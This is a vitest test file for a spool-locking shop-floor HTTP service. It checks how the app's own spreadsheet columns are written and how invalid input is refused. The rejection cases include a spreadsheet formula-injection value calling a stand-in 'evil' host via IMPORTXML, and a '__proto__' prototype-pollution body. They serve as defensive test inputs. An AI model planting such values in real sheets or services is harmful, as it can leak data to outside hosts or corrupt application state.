import { createSpoolLock, parseSpoolTag } from '@spoollock/core';
import { MemoryOccupationSource } from '@spoollock/core/memory';
import { describe, expect, test } from 'vitest';
import { createSpoolHttp } from '../src/service.js';
import { ADAPTERS, JP, MR, type OpenShop } from './support/test-shop.js';

const COLUMNS = {
  Armador: 'text',
  Metros: 'number',
  Revisado: 'boolean',
  Inicio: 'date-time',
  Precio: 'number',
} as const;
/** Prices are nobody's who calls. */
const { Precio: _, ...WRITABLE } = COLUMNS;

describe.each(ADAPTERS)('the app’s own columns, on %s', (_adapter, openShop) => {
  async function shopWithColumns(open: OpenShop) {
    const source = new MemoryOccupationSource([{ tag: 'A' }, { tag: 'B' }], { also: COLUMNS });
    const shop = await open({ source, also: WRITABLE, supervisor: () => ({ by: 'the foreman' }) });
    return { ...shop, cells: (tag: string) => source.peekAlso(parseSpoolTag(tag)._unsafeUnwrap()) };
  }

  test('are written with INICIAR, and again with FINALIZAR', async () => {
    const shop = await shopWithColumns(openShop);
    const also = { Armador: 'MR(93)', Metros: 12.5, Inicio: '2026-11-20T08:00:00-03:00' };
    expect((await shop.post('/api/spools/A/iniciar', { worker: MR, also })).status).toBe(201);
    expect(shop.cells('A')).toEqual({ ...also, Inicio: new Date('2026-11-20T11:00:00Z') });
    const after = { Metros: null, Revisado: true };
    expect((await shop.post('/api/spools/A/finalizar', { worker: MR, also: after })).status).toBe(200);
    expect(shop.cells('A')).toMatchObject({ Armador: 'MR(93)', Metros: null, Revisado: true });
  });

  test('are written for each spool of many', async () => {
    const shop = await shopWithColumns(openShop);
    const also = { Armador: 'MR(93)' };
    const { body } = await shop.post('/api/spools/iniciar', { tags: ['A', 'B'], worker: MR, also });
    expect(body.results?.map(({ status }) => status)).toEqual([201, 201]);
    expect([shop.cells('A'), shop.cells('B')]).toEqual([also, also]);
    const given = { tags: ['A', 'B'], worker: MR, also: { Revisado: true } };
    await shop.post('/api/spools/finalizar', given);
    expect([shop.cells('A'), shop.cells('B')]).toMatchObject([{ Revisado: true }, { Revisado: true }]);
  });

  test('are written with a take-over and with a release', async () => {
    const shop = await shopWithColumns(openShop);
    await shop.post('/api/spools/A/iniciar', { worker: MR });
    const order = { from: MR, to: JP, reason: 'went home', also: { Armador: 'JP(94)' } };
    expect((await shop.post('/api/spools/A/take-over', order)).status).toBe(200);
    expect(shop.cells('A')).toEqual({ Armador: 'JP(94)' });
    const release = { from: JP, reason: 'went home', also: { Armador: null } };
    expect((await shop.post('/api/spools/A/release', release)).status).toBe(200);
    expect(shop.cells('A')).toEqual({ Armador: null });
  });

  test.each([
    ['not an object', [], 'also'],
    ['a text', 'Armador', 'also'],
    ['null', null, 'also'],
    ['a column that callers may not write', { Precio: 1 }, 'also'],
    ['a column of nobody', { constructor: 'x' }, 'also'],
    ['a number for a text', { Armador: 7 }, 'also.Armador'],
    ['a formula', { Armador: '=IMPORTXML("http://evil/","//a")' }, 'also.Armador'],
    ['a moment without its zone', { Inicio: '2026-11-20T08:00:00' }, 'also.Inicio'],
    ['a day that there is not', { Inicio: '2026-13-40T08:00:00Z' }, 'also.Inicio'],
    ['a year that no sheet shows', { Inicio: '0001-01-01T00:00:00Z' }, 'also.Inicio'],
    ['a list in a column', { Metros: [1] }, 'also.Metros'],
  ])('%s: 400 with the member’s name, and nothing is written', async (_what, also, field) => {
    const shop = await shopWithColumns(openShop);
    const { status, body } = await shop.post('/api/spools/A/iniciar', { worker: MR, also });
    expect({ status, field: body['field'] }).toEqual({ status: 400, field });
    expect((await shop.get('/api/spools/A')).body.state).toBe('free');
  });

  test('a column with the name of a prototype is a column of nobody', async () => {
    const shop = await shopWithColumns(openShop);
    const body = '{"worker":{"id":93,"initials":"MR"},"also":{"__proto__":{"Armador":"x"}}}';
    expect((await shop.post('/api/spools/A/iniciar', body)).status).toBe(400);
  });

  test('are refused where the app has named none, even if the source has them', async () => {
    const source = new MemoryOccupationSource([{ tag: 'A' }], { also: COLUMNS });
    const shop = await openShop({ source });
    const answer = await shop.post('/api/spools/A/iniciar', { worker: MR, also: { Armador: 'x' } });
    expect(answer).toMatchObject({ status: 400, body: { field: 'also' } });
  });
});

test('a kind that there is not is refused when the routes are made', () => {
  const lock = createSpoolLock({ source: new MemoryOccupationSource([]) });
  const read: (text: string) => Record<string, 'text'> = JSON.parse;
  expect(() => createSpoolHttp(lock, { also: read('{"Armador":"colour"}') })).toThrow(
    'also.Armador must be text, number, boolean, date-time, not colour',
  );
});
